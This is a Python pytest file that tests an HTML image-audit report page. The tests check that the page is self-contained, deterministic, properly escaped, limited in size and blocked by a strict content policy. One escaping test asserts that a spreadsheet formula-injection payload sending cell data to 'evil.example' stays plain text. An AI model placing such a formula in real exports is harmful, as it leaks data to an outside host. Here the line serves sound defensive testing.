"""The page as text: whole, escaped, self-contained, the same every time, and not too large."""

from __future__ import annotations

import os
import re
import sys
from collections.abc import Callable, Mapping
from dataclasses import replace
from datetime import UTC, datetime
from html.parser import HTMLParser

import pytest

from flows.checks.finding import Finding, Ran, Severity
from flows.checks.subject import Image
from flows.report.audit.model import Audit
from flows.report.audit.page import Shot

Rendered = Callable[[Audit, Mapping[str, Shot]], list[bytes]]
VOID = {"meta", "br", "wbr", "img", "input", "image", "use", "rect", "path", "circle", "line", "link", "hr"}


class Reader(HTMLParser):
    """Every tag with its attributes, and the text between them; complains about tags that do not match."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.open: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        if tag not in VOID:
            assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if not {"script", "style"} & set(self.open):
            self.texts.append(data)

    @property
    def text(self) -> str:
        """All that is to be read, blanks made one."""
        return " ".join(" ".join(self.texts).split())


def test_the_page_says_all_that_was_found(page: str, audit: Audit) -> None:
    """Headline, scores, every finding with measure, threshold and id, changes, spending, checks; tags match."""
    reader = Reader(page)
    assert reader.open == []
    said = reader.text
    for words in (
        "1 of 5 pictures is in order.",
        "Not passed: 1 error",
        "Helio",
        "Nord Ferry",
        "1 of 4 pictures in order",
        "The score counts pictures in use without an error or a warning",
        "Since the audit of 16 November 2026",
        "5.png is not on storage",
        "4% at least 10%",
        "17% character error rate, at most 10%",
        "SOMER",
        "48.3",
        "$0.42 in all",
        "not looked: turned off in the audit policy (delivery.enabled)",
        "1 finding accepted by somebody",
        "old/stray.png belongs to no image",
    ):
        assert words in said, words
    for finding in audit.findings:
        assert f"ideoflow decide accept {finding.finding_id}" in said
    ids = [attrs["id"] for _, attrs in reader.tags if attrs.get("id")]
    assert len(ids) == len(set(ids))


def test_a_misspelt_word_is_boxed_in_its_picture(page: str) -> None:
    """At its place, in the picture's own measures."""
    (box,) = re.findall(r'<g class="box wrong"><title>SOMER</title><rect ([^>]*)/></g>', page)
    assert box == 'x="102.4" y="153.6" width="512" height="153.6"'


def test_what_people_write_stays_text(page: str) -> None:
    """No tag, attribute or style comes of a prompt, a name or a detail; formulas stay words."""
    reader = Reader(page)
    assert [tag for tag, _ in reader.tags if tag in {"img", "iframe", "object", "embed", "link", "base"}] == []
    assert sum(tag == "script" for tag, _ in reader.tags) == 1
    assert not [name for _, attrs in reader.tags for name in attrs if name.startswith("on")]
    assert "<script>document.title" not in page
    assert '=HYPERLINK("https://evil.example/?"&A1,"open")' in reader.text
    for tag, attrs in reader.tags:
        style = attrs.get("style") or ""
        assert re.fullmatch(r"[-\w:#.%;, ]*", style), (tag, style)
    cells = re.findall(r"<th([^>]*)>=HYPERLINK", page)
    assert cells
    assert all("text" in cell for cell in cells)


def test_everything_is_inside(page: str) -> None:
    """Links lead within the page, pictures and type are data, and the policy of the page allows nothing else."""
    reader = Reader(page)
    links = [attrs[name] or "" for _, attrs in reader.tags for name in ("href", "src") if name in attrs]
    assert links
    assert {re.match(r"#|data:image/webp;base64,", link) is not None for link in links} == {True}
    targets = {attrs["id"] for _, attrs in reader.tags if attrs.get("id")}
    assert {link[1:] for link in links if link.startswith("#")} <= targets
    assert set(re.findall(r"url\((\w+:)", page)) == {"data:"}
    assert "@import" not in page
    (policy,) = [attrs["content"] for _, attrs in reader.tags if attrs.get("http-equiv")]
    assert policy is not None
    assert policy.startswith("default-src 'none'")


def test_without_its_script_the_page_is_whole(page: str) -> None:
    """Only the filters wait for it; they are hidden until it has come, nothing else is."""
    reader = Reader(page)
    hidden = {(tag, attrs.get("class")) for tag, attrs in reader.tags if "hidden" in attrs}
    assert hidden == {("form", "filters"), ("p", "empty")}


def test_the_same_audit_has_the_same_bytes(
    audit: Audit, shots: Mapping[str, Shot], rendered: Rendered, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever the day it is rendered on, and in whatever order thumbnails come."""
    once = rendered(audit, shots)
    monkeypatch.setenv("TZ", "Pacific/Auckland")
    again = rendered(audit, dict(reversed(list(shots.items()))))
    assert once == again
    assert b"Kozea" not in once[0]
    assert str(datetime.now(tz=UTC).date()).encode() not in once[0].replace(b"2026-11-2", b"")


def test_an_audit_of_nothing_has_a_page(audit: Audit, rendered: Rendered) -> None:
    """Which says so."""
    empty = replace(audit, verdicts=(), images=(), failing=frozenset(), before=(), past=(), spend=None, brands={})
    (page,) = rendered(empty, {})
    said = Reader(page.decode()).text
    assert "No pictures in use yet." in said
    assert "No check looked at anything" in said


def test_rules_nobody_knows_have_a_page_too(audit: Audit, rendered: Rendered) -> None:
    """A check of somebody's own says its code."""
    own = Finding("house.style_broken", Severity.NOTE, "x", "not ours")
    (page,) = rendered(replace(audit, verdicts=(Ran("house", 1, (own,)),)), {})
    assert "House: style broken" in Reader(page.decode()).text


def test_long_audits_go_on_in_further_files(
    audit: Audit, picture: Callable[..., Image], rendered: Rendered, shots: Mapping[str, Shot]
) -> None:
    """Each names all of them; the summary is in the first alone."""
    images = tuple(picture(number) for number in range(1001))
    first, second = (page.decode() for page in rendered(replace(audit, images=images), {}))
    for page in (first, second):
        assert Reader(page).open == []
        assert "This audit is in 2 files:" in page
    assert 'href="page-2.html"' in first
    assert 'href="page-1.html"' in second
    assert "1,000 pictures of 1,001 in this file" in first
    assert "1 picture of 1,001 in this file" in second
    assert "Spending" in first
    assert "Spending" not in second


@pytest.mark.slow
def test_a_thousand_pictures_stay_below_thirty_megabytes(
    audit: Audit, picture: Callable[..., Image], rendered: Rendered, found: Callable[..., Finding]
) -> None:
    """Though every prompt is as long as they get, every picture has a finding and every thumbnail is noise."""
    images = tuple(picture(number, prompt=f"{number} " + "word " * 2000) for number in range(1000))
    # The largest thumbnail there is: 256 pixels of noise in quality 70 are 23 kB.
    shots = {image.sha256 or "": Shot(1024, 1024, os.urandom(23_000)) for image in images}
    findings = tuple(found("palette.off_brand", Severity.WARNING, one, "m " * 200, remedy="r " * 200) for one in images)
    files = rendered(replace(audit, images=images, verdicts=(Ran("palette", 1000, findings),)), shots)
    sizes = [len(file) for file in files]
    assert max(sizes) < 30_000_000, sizes
    usual = {image.sha256 or "": Shot(1024, 1024, os.urandom(9_000)) for image in images}
    few = (Ran("palette", 1000, findings[:200]),)
    (one,) = rendered(replace(audit, images=images, verdicts=few), usual)
    assert len(one) < 30_000_000


def test_charts_leave_pythons_imports_alone() -> None:
    """The library that draws them would hook into every import."""
    from flows.report.audit import charts

    assert charts.MAX_BARS
    assert [finder for finder in sys.meta_path if type(finder).__module__.startswith("pygal")] == []
